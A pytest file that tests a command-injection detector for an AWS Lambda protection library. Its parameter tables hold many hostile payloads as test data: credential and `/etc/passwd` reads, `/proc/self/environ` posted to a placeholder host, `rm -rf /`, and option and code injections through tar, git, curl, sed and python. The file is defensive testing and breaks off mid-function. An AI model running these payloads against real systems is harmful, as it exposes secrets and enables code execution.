"""The command-injection detector on its own: the shell reader, shell scripts and argument vectors."""
from __future__ import annotations

import errno
import shlex
import subprocess
import sys

import pytest

from app_protect_lambda.detectors import command_injection as ci
from app_protect_lambda.detectors.command_injection import Command
from app_protect_lambda.sources.inputs import Input, Inputs


def judge(command: Command, *values: str, options: dict | None = None):
    inputs = Inputs([Input(f"query.p{index}", value) for index, value in enumerate(values)])
    return ci.detect(command, inputs, options or {})


def shell(template: str, value: str):
    return judge(Command([template.format(value)], shell=True), value)


def argv(vector: list[str], *values: str, **kwargs):
    return judge(Command(vector, **kwargs), *values)


# (template, payload, expected reason in the message)
SHELL_ATTACKS = [
    ("echo {}", "x; env", "command separator"),
    ("echo {}", "x;printenv AWS_SECRET_ACCESS_KEY", "command separator"),
    ("echo {}", "x | sh", "pipe"),
    ("ls {}", "x || id", "command separator"),
    ("echo {}", "x && id", "command separator"),
    ("echo {}", "x & id", "command separator"),
    ("echo {}", "x\nid", "command separator"),
    ("echo {}", "x\r\nid", "command separator"),
    ("echo {}", "$(id)", "command substitution"),
    ("echo {}", "`id`", "command substitution"),
    ("echo {}", "${IFS}cat${IFS}/etc/passwd", "parameter expansion"),
    ("echo {}", "a$IFS/etc/passwd", "parameter expansion"),
    ("echo {}", "$HOME", "parameter expansion"),
    ("cat {}", "/var/task/*.py", "glob"),
    ("cat {}", "/etc/pass??", "glob"),
    ("cat {}", "/etc/[p]asswd", "glob"),
    ("echo {}", "{cat,/etc/passwd}", "brace"),
    ("cat {}", "~/.aws/credentials", "tilde"),
    ("echo {} > /tmp/out", "x >/tmp/pwned", "redirection"),
    ("sort {}", "</etc/passwd", "redirection"),
    ("echo {}", "(id)", "subshell"),
    ("convert {} out.png", "in.jpg #", "comment"),
    ("echo '{}'", "x'; id; '", "command separator"),
    ("echo '{}'", "x'$(id)'", "command substitution"),
    ("echo '{}'", "x'", "breaks out of a quoted string"),
    ('echo "{}"', 'x"; id; "', "command separator"),
    ('echo "{}"', "$(id)", "command substitution"),
    ('echo "{}"', "`id`", "command substitution"),
    ('echo "{}"', "${IFS}", "parameter expansion"),
    ('echo "{}"', 'x"', "breaks out of a quoted string"),
    ("echo {}", "it's", "leaves a quote open"),
    ('echo "{}" end', "x\\", "escapes the character after it"),
    ("echo {};id", "x\\", "escapes the character after it"),
    ('echo "$(cat {})"', "x; id", "command separator"),
    ('echo "$(cat \'{}\')"', "x'; id; '", "command separator"),
    ("echo {}", "x;\tid", "command separator"),
    ("sh -c 'echo {}'", "x; id", "command separator"),  # the inner shell reads the quoted script again
    ("bash -c \"ls {}\"", "$(id)", "command substitution"),
    ("env X=1 sh -c 'cat {}'", "a | sh", "pipe"),
    ("eval 'echo {}'", "x && id", "command separator"),
]


@pytest.mark.parametrize(("template", "payload", "reason"), SHELL_ATTACKS)
def test_shell_attacks(template: str, payload: str, reason: str) -> None:
    finding = shell(template, payload)
    assert finding is not None, (template, payload)
    assert finding.rule == "cmdi.shell-syntax"
    assert reason in finding.message
    assert finding.input.location == "query.p0"


SHELL_BENIGN = [
    ("echo {}", "report.v2.final.pdf"),
    ("echo {}", "請求書-2024年"),
    ("echo {}", "user@example.com"),
    ("echo {}", "a-b_c.d:e,f+g=h%i"),
    ("echo '{}'", "hello world; this is | fine & $(not run) `either`"),
    ("echo '{}'", 'say "hi" $HOME'),
    ('echo "{}"', "it's fine; really | & < >"),
    ('echo "{}"', "quoted \\\" inside"),
    ("convert '{}' out.png", "my photo (1).jpg"),
    ("echo x # {}", "a;b|c"),
    ("echo {}", "x'; id; '"),  # quoted by the input itself: one literal word
    ("echo {}", "a\\;b"),  # an escaped separator is a literal character
    ("echo $'{}'", "plain"),
    ("ls -la {}", "/tmp/uploads/report.v2.final.pdf"),
    ("echo {}", "hello world"),  # splits words, brings no syntax
    ("sh -c 'echo \"$1\"' sh '{}'", "x; id"),  # a positional parameter of the inner shell
]


@pytest.mark.parametrize(("template", "payload"), SHELL_BENIGN)
def test_shell_benign(template: str, payload: str) -> None:
    assert shell(template, payload) is None


@pytest.mark.parametrize("payload", [
    "x; rm -rf /", "$(id)", "`id`", "it's", "a'b\"c", "${IFS}", "*", "~root", "a\nb",
    "請求書 2024年.pdf", "x\\", "\\", "' OR '1'='1",
])
def test_shlex_quote_is_always_safe(payload: str) -> None:
    for template in ("echo {}", "convert {} out.png", "curl -s {}"):
        assert judge(Command([template.format(shlex.quote(payload))], shell=True), payload) is None


def test_shlex_quote_does_not_stop_option_injection() -> None:
    finding = judge(Command([f"curl -s {shlex.quote('-o/tmp/x')}"], shell=True), "-o/tmp/x")
    assert finding is not None and finding.rule == "cmdi.option"


def test_program_chosen_by_input() -> None:
    finding = shell("{} --version", "env")
    assert finding.rule == "cmdi.program"
    assert shell("/usr/bin/{} --version", "printenv").rule == "cmdi.program"
    assert shell("echo {}", "env") is None
    assert shell("echo x; /usr/bin/env {}", "ls") is not None  # env runs its argument
    assert shell("/usr/bin/convert-{} x", "tool") is None  # the input names part of a program


def test_option_injection_in_a_shell_command() -> None:
    finding = shell("curl -s {}", "http://x -o /tmp/pwned")
    assert finding.rule == "cmdi.option" and "-o" in finding.message
    assert shell("tar cf out.tar {}", "--to-command=sh").rule == "cmdi.option"
    assert shell("ls {}", "-la /") is None  # ls has no dangerous option
    assert shell("curl -s -- {}", "-o/tmp/x") is None  # after --, not an option


ARGV_ATTACKS = [
    (["curl", "-s", "-o/tmp/pwned"], "-o/tmp/pwned", "cmdi.option"),
    (["curl", "-s", "--output=/tmp/pwned"], "--output=/tmp/pwned", "cmdi.option"),
    (["curl", "-sSo/tmp/pwned"], "-sSo/tmp/pwned", "cmdi.option"),
    (["find", ".", "-name", "x", "-exec", "sh", ";"], "-exec", "cmdi.option"),
    (["tar", "-cf", "out.tar", "--checkpoint-action=exec=sh"], "--checkpoint-action=exec=sh", "cmdi.option"),
    (["git", "clone", "--upload-pack=touch /tmp/pwned", "repo"], "--upload-pack=touch /tmp/pwned", "cmdi.option"),
    (["rsync", "-e", "sh -c id", "a", "b"], "-e", "cmdi.option"),
    (["ssh", "-oProxyCommand=id", "host"], "-oProxyCommand=id", "cmdi.option"),
    (["wget", "--post-file=/proc/self/environ", "http://x"], "--post-file=/proc/self/environ", "cmdi.option"),
    (["/usr/bin/python3", "-c", "print(1)"], "-c", "cmdi.option"),
    (["env", "printenv"], "printenv", "cmdi.program"),
    (["timeout", "5", "curl", "-o/tmp/x"], "-o/tmp/x", "cmdi.option"),
    (["printenv", "AWS_SECRET_ACCESS_KEY"], "printenv", "cmdi.program"),
    (["/usr/bin/env"], "env", "cmdi.program"),
    (["sh", "-c", "echo x; id"], "x; id", "cmdi.shell-syntax"),
    (["bash", "-o", "pipefail", "-c", "echo $(id)"], "$(id)", "cmdi.shell-syntax"),
    (["/bin/sh", "-ec", "ls x | sh"], "x | sh", "cmdi.shell-syntax"),
]


@pytest.mark.parametrize(("vector", "payload", "rule"), ARGV_ATTACKS)
def test_argv_attacks(vector: list[str], payload: str, rule: str) -> None:
    finding = argv(vector, payload)
    assert finding is not None and finding.rule == rule, finding


def test_program_named_separately_from_argv0() -> None:
    assert argv(["ls", "-la"], "evil", program="/tmp/evil").rule == "cmdi.program"
    assert argv(["sh", "-c", "echo ok"], "x", program="/bin/sh") is None


ARGV_BENIGN = [
    (["echo", "a; rm -rf / && $(id) `id` | sh"], "a; rm -rf / && $(id) `id` | sh"),
    (["ls", "-la", "/tmp/uploads/report.v2.final.pdf"], "report.v2.final.pdf"),
    (["grep", "-c", "-v", "/tmp/file"], "-v"),  # grep has no dangerous option
    (["curl", "-s", "https://example.com/?a=b&c=$(d)"], "https://example.com/?a=b&c=$(d)"),
    (["find", "/tmp", "--", "-exec"], "-exec"),
    (["convert", "請求書 2024年.png", "out.pdf"], "請求書 2024年.png"),
    (["tar", "-cf", "out.tar", "my file.txt"], "my file.txt"),
    (["sh", "-c", "echo \"$1\"", "sh", "x; id"], "x; id"),  # a positional parameter, not script text
    (["/usr/bin/convert", "x"], "/convert"),  # a route named like the program
]


@pytest.mark.parametrize(("vector", "payload"), ARGV_BENIGN)
def test_argv_benign(vector: list[str], payload: str) -> None:
    assert argv(vector, payload) is None


def test_dangerous_options_extend_by_policy() -> None:
    command = Command(["mytool", "--hook=id"])
    inputs = Inputs([Input("query.x", "--hook=id")])
    assert ci.detect(command, inputs, {}) is None
    assert ci.detect(command, inputs, {"dangerous_options": ("mytool:--hook",)}).rule == "cmdi.option"


def test_allowed_programs() -> None:
    command = Command(["zip", "-r", "out.zip", "dir"])
    inputs = Inputs([Input("query.format", "zip")])
    assert ci.detect(command, inputs, {}).rule == "cmdi.program"
    assert ci.detect(command, inputs, {"allow_programs": ("zip",)}) is None
    assert ci.detect(Command(["zip -r out.zip dir"], shell=True), inputs, {"allow_programs": ("zip",)}) is None


def test_interpreter_options_end_at_the_script() -> None:
    assert argv(["python3", "/var/task/tool.py", "-cool"], "-cool") is None
    assert argv(["bash", "/var/task/run.sh", "-c"], "-c") is None
    assert argv(["python3", "-c", "print(1)"], "-c").rule == "cmdi.option"


def test_decoded_forms_are_judged() -> None:
    inputs = Inputs([Input("query.x", "eDsgaWQ=")])  # base64 of "x; id"
    assert ci.detect(Command(["echo x; id"], shell=True), inputs, {}).input.transform == "base64"


def test_no_input_no_finding() -> None:
    assert judge(Command(["echo a; b | c $(d)"], shell=True)) is None
    assert judge(Command(["echo a; b | c $(d)"], shell=True), "unrelated") is None


def test_shell_reader_words_and_commands() -> None:
    commands = ci.simple_commands("A=1 > out cmd a 'b c' \"d\"$(x y); z | w 2>&1")
    assert [[w.value for w in words] for words in commands] == [["cmd", "a", "b c", "d"], ["x", "y"], ["z"], ["w"]]
    classes, contexts = ci.classify("echo 'a;b' \"$(c)\" d;e")
    text = "echo 'a;b' \"$(c)\" d;e"
    assert classes[text.index(";")] == ci.QUOTED
    assert classes[text.rindex(";")] == ci.OPERATOR
    assert classes[text.index("$")] == ci.SUBST
    assert contexts[len(text)] == 0


def test_unterminated_constructs_do_not_crash() -> None:
    for text in ("echo 'abc", 'echo "abc', "echo $(abc", "echo `abc", "echo ${abc", "echo \\", "echo $", "#",
                 "echo $'abc", "))))", "$(", "`"):
        ci.classify(text)
        ci.simple_commands(text)
        if len(text) > 1:
            assert shell("{}", text) is not None


def test_prefilter_never_skips_a_finding() -> None:
    cases = [(Command([t.format(p)], shell=True), p) for t, p, _ in SHELL_ATTACKS]
    cases += [(Command(v), p) for v, p, _ in ARGV_ATTACKS]
    cases += [(Command(["tar", "cf", "x.tar", "--to-command=sh"]), "to-command=sh"),
              (Command(["ls", "-la"], program="/tmp/evil"), "evil")]
    for command, payload in cases:
        inputs = Inputs([Input("query.x", payload)])
        assert ci.detect(command, inputs, {}) is not None, command
        assert ci.Prefilter(inputs).may_inject(command), command


def test_prefilter_skips_commands_without_inputs() -> None:
    prefilter = ci.Prefilter(Inputs([Input("query.name", "report.v2.final.pdf"), Input("query.page", "42")]))
    assert not prefilter.may_inject(Command(["convert", "-resize", "50%", "a.png", "b.pdf"]))
    assert not prefilter.may_inject(Command(["ls -la /var/task"], shell=True))
    assert prefilter.may_inject(Command(["convert report.v2.final.pdf out.png"], shell=True))
    assert not prefilter.may_inject(Command(["convert", "report.v2.final.pdf", "out.png"]))  # a plain argument
    assert prefilter.may_inject(Command(["sh", "-c", "convert report.v2.final.pdf out.png"]))


# ---------------------------------------------------------------- the one interpreter table

@pytest.mark.parametrize(("program", "name"), [
    ("/usr/bin/python3.12", "python"), ("python2", "python"), ("bash5", "bash"), ("/bin/sh", "sh"),
    ("perl5.36", "perl"), ("lua5.4", "lua"), ("node18", "node"), ("php8.2", "php"),
    ("shasum", "shasum"), ("phpunit", "phpunit"), ("nodemon", "nodemon"), ("python3-config", "python3-config"),
])
def test_program_name_drops_only_an_interpreters_version(program: str, name: str) -> None:
    assert ci.program_name(program) == name


def test_versioned_interpreters_are_judged_like_their_family() -> None:
    # exact names before: bash5 was no shell and perl5.36 had no dangerous option
    assert argv(["bash5", "-c", "echo x; id"], "x; id").rule == "cmdi.shell-syntax"
    assert argv(["/usr/bin/perl5.36", "-e", "system('id')"], "-e").rule == "cmdi.option"
    assert argv(["python3.12", "-c", "print(1)"], "-c").rule == "cmdi.option"
    assert argv(["lua5.4", "/var/task/tool.lua", "-e"], "-e") is None
    assert shell("bash5 -c '{}'", "x; id").rule == "cmdi.shell-syntax"  # the inner shell reads the quoted script


def test_policy_options_for_a_versioned_interpreter_apply_to_the_family() -> None:
    command = Command(["python3.11", "-X", "importtime"])
    inputs = Inputs([Input("query.x", "-X")])
    assert ci.detect(command, inputs, {}) is None
    assert ci.detect(command, inputs, {"dangerous_options": ("python3:-X",)}).rule == "cmdi.option"


@pytest.mark.parametrize(("vector", "script"), [
    (["sh", "-c", "/tmp/x", "-c"], "/tmp/x"),  # the option's name again, as a positional parameter
    (["sh", "-c", "-c"], "-c"),
    (["bash", "-ec", "id", "id"], "id"),
    (["bash", "-o", "errexit", "-c", "id"], "id"),
    (["sh", "--", "-c", "id"], None),
    (["sh", "script.sh", "-c", "id"], None),
    (["sh", "-c"], None),
])
def test_shell_script_is_found_by_position(vector: list[str], script: str | None) -> None:
    operand = ci.shell_operand(vector)
    assert (operand[1] if operand and operand[0] else None) == script


@pytest.mark.parametrize(("vector", "operand"), [
    (["sh", "/tmp/x.sh"], (False, "/tmp/x.sh")),
    (["bash", "-e", "-o", "pipefail", "/tmp/x.sh", "-c"], (False, "/tmp/x.sh")),
    (["sh", "--", "-c"], (False, "-c")),
    (["sh", "-s", "/tmp/x.sh"], None),  # commands from stdin; the operands are parameters
    (["sh"], None),
])
def test_shell_operand_tells_a_script_file(vector: list[str], operand: tuple[bool, str] | None) -> None:
    assert ci.shell_operand(vector) == operand


# ---------------------------------------------------------------- the reader: runs and steps give one reading

# One letter per class: Literal, quoted (q), Escaped, Blank, Quote, Operator, eXpansion, Substitution, Glob,
# Comment, Remark; and the quoting context before each character. Pinned from the character-by-character reader
# that the run-skipping one replaced.
READINGS = [
    ("echo a  b\tc;d|e&&f>g<h", "LLLLBLBBLBLOLOLOOLOLOL", "00000000000000000000000"),
    ("ls *.py ?x [ab] {c,d} ~ a~ ~/x", "LLBGLLLBGLBGLLLBGLLLGBGBLLBGLL", "0000000000000000000000000000000"),
    ("echo a#b #c\nd", "LLLLBLLLBCROL", "00000000000000"),
    ("x=\"$z\" 'a b' c\\ d", "LLQXqQBQqqqQBLQEL", "000222001111000000"),
    ("echo $(a `b`) ${d:-{e}} $'f\\'g' $\"h\"", "LLLLBSSLBSLSSBXXXXXXXXXBQQqQEqQBQQqQ",
     "0000000333663000000000000011111000220"),  # $'...' is a quoted context, as '...' is
    ("é 請求 a;b", "LBLLBLOL", "000000000"),
    ("echo \"a\\\"b$c\" 'd\\' e", "LLLLBQqQEqXqQBQqqQBL", "000000222222200111000"),
    ("(a) $((1+2))", "OLOBSSOLLLOS", "0000003333330"),
]


@pytest.mark.parametrize(("text", "classes", "contexts"), READINGS)
def test_shell_reader_classes_and_contexts(text: str, classes: str, contexts: str) -> None:
    read, quoting = ci.classify(text)
    assert "".join("LqEBQOXSGCR"[c] for c in read) == classes
    assert "".join(map(str, quoting)) == contexts


def test_shell_reader_words_with_quotes_and_unicode() -> None:
    commands = ci.simple_commands("convert '請求書 2024年.png' \"out \"file.pdf a''b '' é;ls")
    assert [[w.value for w in words] for words in commands] == [
        ["convert", "請求書 2024年.png", "out file.pdf", "ab", "", "é"], ["ls"]]
    quoted = commands[0][1]
    assert (quoted.start, quoted.end) == (9, 22)


def test_input_in_a_later_command_of_a_long_list_is_judged() -> None:
    script = "true; " * 5000 + "echo {}"
    assert shell(script, "x; id").rule == "cmdi.shell-syntax"
    assert shell("true; " * 5000 + "{} -la", "printenv").rule == "cmdi.program"
    assert shell("true; " * 5000 + "curl {} http://x", "-o/tmp/x").rule == "cmdi.option"


def test_prefilter_finds_an_input_that_ends_a_long_program_path() -> None:
    inputs = Inputs([Input("query.tool", "evil")])
    assert ci.Prefilter(inputs).may_inject(Command(["/a" * 1000 + "/evil"]))
    assert not ci.Prefilter(inputs).may_inject(Command(["/a" * 1000 + "/notevil"]))
    assert not ci.Prefilter(inputs).may_inject(Command(["/a" * 1000 + "/evil/x"]))


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="MAX_ARG_STRLEN is Linux's")
def test_longest_argument_is_the_kernels() -> None:
    limit = ci.longest_argument()
    subprocess.run(["true", "a" * limit], check=True)
    with pytest.raises(OSError) as refused:
        subprocess.run(["true", "a" * (limit + 1)], check=True)
    assert refused.value.errno == errno.E2BIG


def test_a_script_longer_than_execve_takes_is_not_read() -> None:
    limit = ci.longest_argument()
    assert shell("echo {} " + "a" * (limit - 100), "x; id").rule == "cmdi.shell-syntax"
    assert shell("echo {} " + "a" * limit, "x; id") is None  # sh -c would fail with E2BIG: nothing runs
    assert argv(["sh", "-c", "echo x; id " + "a" * limit], "x; id") is None
    assert not ci.runnable(Command(["ls", "a" * (limit + 1)]))
    assert ci.runnable(Command(["ls", "a" * limit]))


# ---------------------------------------------------------------- issue 11: vectors split from a string

def split_vector(template: str, value: str, split=shlex.split) -> list[str]:
    return split(template.format(value))


# (template, payload, how the code split it, expected rule, expected word in the message)
SPLIT_ATTACKS = [
    ("find . -name {}", "x -exec rm {{}} ;", shlex.split, "cmdi.option", "-exec"),
    ("find . -name {}", "x -exec rm {{}} ;", str.split, "cmdi.option", "-exec"),
    ("find /tmp -name {}", "x\t-delete", str.split, "cmdi.option", "-delete"),
    ("tar cf out.tar {}", "x --checkpoint=1 --checkpoint-action=exec=sh", shlex.split, "cmdi.option",
     "--checkpoint-action"),
    ("tar cf out.tar {}", "x '--to-command=sh -c id'", shlex.split, "cmdi.option", "--to-command"),
    ("curl -s {}", "http://x -o /tmp/pwned", shlex.split, "cmdi.option", "-o"),
    ("curl -s {}", "http://x  -K\n/tmp/cfg", str.split, "cmdi.option", "-K"),
    ("git clone {} repo", "x --upload-pack=id", shlex.split, "cmdi.option", "--upload-pack"),
    ("{} --version", "printenv AWS_SECRET_ACCESS_KEY", shlex.split, "cmdi.program", "chooses the program"),
    ("env {}", "X=1 printenv", shlex.split, "cmdi.program", "chooses the program"),
    ("rsync {} /tmp/dst", "src -e 'sh -c id'", shlex.split, "cmdi.option", "-e"),
]


@pytest.mark.parametrize(("template", "payload", "split", "rule", "word"), SPLIT_ATTACKS)
def test_split_vector_attacks(template: str, payload: str, split, rule: str, word: str) -> None:
    vector = split_vector(template, payload, split)
    finding = argv(vector, payload)
    assert finding is not None and finding.rule == rule, (vector, finding)
    assert word in finding.message
    inputs = Inputs([Input("query.q", payload)])
    assert ci.Prefilter(inputs).may_inject(Command(vector))


SPLIT_BENIGN = [
    ("find . -name {}", "my report.pdf"),
    ("grep -r {} /var/task/docs", "hello world"),
    ("convert {} out.png", "photo 1.jpg"),
    ("git log --grep {}", "fix - typo"),  # a lone dash is no option
    ("tar cf out.tar {}", "a.txt b.txt c.txt"),
    ("curl -s {}", "https://example.com/a b"),
    ("echo {}", "x -exec rm {{}} ;"),  # echo has no dangerous option
]


@pytest.mark.parametrize(("template", "payload"), SPLIT_BENIGN)
def test_split_vector_benign(template: str, payload: str) -> None:
    for split in (shlex.split, str.split):
        assert argv(split_vector(template, payload, split), payload) is None


def test_split_forms() -> None:
    assert ci.split_forms("a  b\tc") == ("a b c",)
    assert ci.split_forms("x '-exec rm' y") == ("x '-exec rm' y", "x -exec rm y")
    assert ci.split_forms("single") == ()
    assert ci.split_forms("it's open") == ("it's open",)  # shlex refuses it: the code's split raised
    assert ci.split_forms("a b" * ci.MAX_SPLIT_INPUT) == ()


def test_split_forms_are_linear() -> None:
    import time

    for size in (1000, 60000):
        value = "'a' -b " * (size // 7)
        started = time.perf_counter()
        ci.split_forms(value)
        assert time.perf_counter() - started < 0.05


# ---------------------------------------------------------------- issue 11: options, abbreviations, values

OPTION_ATTACKS = [
    (["tar", "cf", "o.tar", "--checkpoint-act=exec=sh"], "--checkpoint-act=exec=sh", "--checkpoint-action"),
    (["git", "clone", "--upload-pa=touch /tmp/x", "r"], "--upload-pa=touch /tmp/x", "--upload-pack"),
    (["wget", "--post-f=/proc/self/environ", "http://x"], "--post-f=/proc/self/environ", "--post-file"),
    (["tar", "cf", "o.tar", "--to-com=sh"], "--to-com=sh", "--to-command"),
    (["curl", "--json", "@/proc/self/environ", "http://x"], "--json", "--json"),
    (["curl", "--url-query", "@/proc/self/environ", "http://x"], "--url-query", "--url-query"),
    (["curl", "-s", "http://x", "--cookie-jar", "/var/task/app.py"], "--cookie-jar", "--cookie-jar"),
    (["curl", "--unix-socket", "/var/run/docker.sock", "http://x"], "--unix-socket", "--unix-socket"),
    (["curl", "-d", "@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
    (["curl", "--data-binary=@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
    (["curl", "-F", "f=@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
    (["curl", "-F", "f=</proc/self/environ", "http://x"], "f=</proc/self/environ", "read a file"),
    (["curl", "-H", "@/proc/self/environ", "http://x"], "@/proc/self/environ", "read a file"),
    (["wget", "--save-cookies=/tmp/x", "http://x"], "--save-cookies=/tmp/x", "--save-cookies"),
    (["git", "rebase", "-x", "id", "main"], "-x", "-x"),
    (["git", "grep", "--open-files-in-pager=id", "x"], "--open-files-in-pager=id", "--open-files-in-pager"),
    (["git", "difftool", "--extcmd=id"], "--extcmd=id", "--extcmd"),
    (["ssh", "-J", "evil", "host"], "-J", "-J"),
    (["rsync", "--remove-source-files", "a", "b"], "--remove-source-files", "--remove-source-files"),
    (["rsync", "--rsync-pa=id", "a", "b"], "--rsync-pa=id", "--rsync-path"),
    (["zip", "-r", "--out", "/var/task/x.zip", "d"], "--out", "--out"),
    (["find", ".", "-files0-from", "/tmp/list"], "-files0-from", "-files0-from"),
    (["env", "--chdir=/tmp", "ls"], "--chdir=/tmp", "--chdir"),
    (["awk", "-l", "/tmp/evil", "1"], "-l", "-l"),
    (["gawk", "--loa=/tmp/evil", "1"], "--loa=/tmp/evil", "--load"),
    (["perl", "-MIO::All", "-x"], "-MIO::All", "into perl"),
    (["node", "--import=/tmp/x.mjs", "app.js"], "--import=/tmp/x.mjs", "--import"),
    (["tar", "xf", "a.tar", "--remove-files"], "--remove-files", "--remove-files"),
]


@pytest.mark.parametrize(("vector", "payload", "option"), OPTION_ATTACKS)
def test_option_attacks(vector: list[str], payload: str, option: str) -> None:
    finding = argv(vector, payload)
    assert finding is not None and finding.rule == "cmdi.option", finding
    assert option in finding.message
    assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(Command(vector))


OPTION_BENIGN = [
    (["git", "commit", "-m", "- bump"], "- bump"),  # the value of -m
    (["git", "commit", "-m", "-update docs"], "-update docs"),
    (["git", "log", "--grep", "-ofile"], "-ofile"),
    (["curl", "-H", "-o /tmp/x", "http://x"], "-o /tmp/x"),  # a header value, not an option
    (["curl", "-d", "name=bob@example.com", "http://x"], "name=bob@example.com"),  # no @file
    (["curl", "-d", "a@b", "http://x"], "a@b"),
    (["find", ".", "-name", "-delete"], "-delete"),  # the name searched for
    (["tar", "cf", "o.tar", "--to"], "--to"),  # too short to stand for one option
    (["wget", "--po"], "--po"),
    (["git", "log", "--grep", "git"], "git"),  # a search term named like the program
    (["git", "log", "--author", "git"], "git"),
    (["grep", "-r", "git", "."], "git"),
    (["ssh", "-p", "-J", "host"], "-J"),  # the port's (invalid) value
]


@pytest.mark.parametrize(("vector", "payload"), OPTION_BENIGN)
def test_option_benign(vector: list[str], payload: str) -> None:
    assert argv(vector, payload) is None


SEARCH_TERM_SHELL = [
    ("git log --grep {}", "git"),
    ("grep -r {} /var/task/docs", "grep"),
    ("file /tmp/{} ; echo file", "file"),
    ("date -d {} +%s", "date"),
]


@pytest.mark.parametrize(("template", "payload"), SEARCH_TERM_SHELL)
def test_search_term_named_like_a_program_in_a_shell_command(template: str, payload: str) -> None:
    assert shell(template, payload) is None


def test_program_position_still_chooses_the_program() -> None:
    assert shell("{} log", "git").rule == "cmdi.program"
    assert shell("{} --version", "date").rule == "cmdi.program"
    assert argv(["git", "log"], "git").rule == "cmdi.program"
    assert shell("{} x; echo gitx", "git").rule == "cmdi.program"  # the other occurrence is no word of its own


# ---------------------------------------------------------------- issue 11: program text as an argument

def fill(vector: list[str], value: str) -> list[str]:
    return [arg.replace("{}", value) for arg in vector]


# (vector with {} where the input goes, payload)
CODE_ATTACKS = [
    (["awk", '$1 == "{}" {print}', "f"], 'x" {system("id")} "'),
    (["awk", '{print "{}"}', "f"], '" ENVIRON["AWS_SECRET_ACCESS_KEY"] "'),
    (["awk", "$3 > {}", "f"], '0 {system("id")}'),
    (["gawk", "{print $1 {} }", "f"], '| "sh"'),
    (["awk", "-F", ",", "-v", "x=1", '{print "{}"}', "f"], '" | "sh'),
    (["jq", '.[] | select(.name == "{}")', "f"], 'x") | env | ("'),
    (["jq", ".{}", "f"], "x | $ENV"),
    (["jq", ".{}", "f"], "env"),
    (["jq", '"\\({})"', "f"], "$ENV.AWS_SECRET_ACCESS_KEY"),
    (["sed", "s/{}/x/", "f"], "a/x/e"),
    (["sed", "s/a/{}/", "f"], "x/e"),
    (["sed", "-e", "s/{}/x/g", "f"], "a/x/;e id;s/b"),
    (["sed", "/{}/d", "f"], "a/e id\n/b"),
    (["sed", "s/a/b/{}", "f"], "w /tmp/out"),
    (["sed", "s/a/b/{}", "f"], "ge"),  # flags: g, then e runs the pattern space
    (["sed", "{}q", "f"], "1e"),
    (["perl", "-e", "print '{}'"], "x'; system('id'); '"),
    (["python3", "-c", "print('{}')"], "x'); __import__('os').system('id'); ('"),
    (["python3", "-c", "print({})"], "__import__('os').system('id')"),
    (["python3.12", "-c", "print({})"], "exec"),
]


@pytest.mark.parametrize(("vector", "payload"), CODE_ATTACKS)
def test_program_text_attacks(vector: list[str], payload: str) -> None:
    command = Command(fill(vector, payload))
    finding = argv(command.argv, payload)
    assert finding is not None and finding.rule == "cmdi.code", finding
    assert ci.Prefilter(Inputs([Input("query.x", payload)])).may_inject(command)
    # the same program text in a shell command, the input quoted by the shell: the program still reads it
    script = " ".join(shlex.quote(arg) for arg in command.argv)
    assert judge(Command([script], shell=True), payload).rule == "cmdi.code"


CODE_BENIGN = [
    (["awk", '$1 == "{}" {print}', "f"], "hello world (ok) | x"),
    (["awk", "$3 > {}", "f"], "100"),
    (["awk", "{print ${}}", "f"], "3"),
    (["awk", "-f", "prog.awk", "{}"], 'x" {system("id")} "'),  # a file operand, not program text
    (["awk", "-v", "q={}", '$1 == q', "f"], 'x" {system("id")} "'),  # a variable's value
    (["jq", '.[] | select(.name == "{}")', "f"], "Bob (admin) | env"),
    (["jq", ".{}", "f"], "name"),
    (["jq", ".items[{}]", "f"], "2"),
    (["jq", "--arg", "q", "{}", ".[] | select(.n == $q)", "f"], 'x") | env | ("'),
    (["sed", "s/{}/x/g", "f"], "hello world"),
    (["sed", "s/a/{}/g", "f"], "some replacement e w"),
    (["sed", "-n", "/{}/p", "f"], "error"),
    (["sed", "-f", "script.sed", "{}"], "a/x/e"),
    (["sed", "-n", "{}p", "f"], "12"),  # a line number
    (["python3", "-c", "print('{}')"], "it is fine"),
    (["perl", "-e", 'print "{}"'], "x 1"),
    (["python3", "script.py", "{}"], "x'); __import__('os')"),
]


@pytest.mark.parametrize(("vector", "payload"), CODE_BENIGN)
def test_program_text_benign(vector: list[str], payload: str) -> None:
    assert argv(fill(vector, payload), payload) is None


def test_program_text_mask_is_linear() -> None:
    import time

    from app_protect_lambda.detectors import program_text

    for language in ("awk", "jq", "sed", "python"):
        text = '"\\(a)\\x' * 20000
        started = time.perf_counter()
        program_text.literal_mask(language, text)
        assert time.perf_counter() - started < 0.5


# ---------------------------------------------------------------- issue 11: shell forms

SHELL_FORM_ATTACKS = [
    ("rm -f '{}'", "x' '/var/task/app.py", "splits a quoted word"),
    ('rm -f "{}"', 'x" "/var/task/app.py', "splits a quoted word"),
    ("cp '{}' /tmp/out", "a'\t'b", "splits a quoted word"),
    ("A={} cmd", "~/x", "tilde"),
    ("cat --file={}", "~root/.aws/credentials", "tilde"),
    ("PATH=/bin:{} cmd", "~/bin", "tilde"),
    ("echo {}", "$@", "parameter expansion"),
    ("echo {}", "$*", "parameter expansion"),
    ("echo {}", "${a[@]}", "parameter expansion"),
    ('echo "{}"', "${BASH_ARGV[*]}", "parameter expansion"),
    ("echo {}", "it's", "leaves a quote open"),
    ('echo "{}"', 'a\\"b"', "breaks out of a quoted string"),
    ('echo "{}"', "`id`", "command substitution"),
    ('echo "{}" x', "a\\", "escapes the character after it"),
]


@pytest.mark.parametrize(("template", "payload", "reason"), SHELL_FORM_ATTACKS)
def test_shell_form_attacks(template: str, payload: str, reason: str) -> None:
    finding = shell(template, payload)
    assert finding is not None and finding.rule == "cmdi.shell-syntax", (template, payload)
    assert reason in finding.message


SHELL_FORM_BENIGN = [
    ("echo '{}'", "a b c"),  # blanks inside the code's quotes
    ("echo {}", "'y z'"),  # the input's own quotes keep its blank
    ("cat x{}", "~root"),  # a tilde inside a word is a letter
    ("echo a:{}", "b~c"),
    ("echo {}", "a\rb"),  # Linux sh: a carriage return is no separator
    ("echo {}", "a\fb"),  # nor a form feed
    ("echo {}", "a\vb"),
    ("echo {}", "C:\\\\Users"),  # no drive letters on Lambda: a backslash-escaped backslash
    ('echo "{}"', "it's 50% off"),
]


@pytest.mark.parametrize(("template", "payload"), SHELL_FORM_BENIGN)
def test_shell_form_benign(template: str, payload: str) -> None:
    assert shell(template, payload) is None


def test_carriage_return_and_form_feed_are_not_separators_on_linux() -> None:
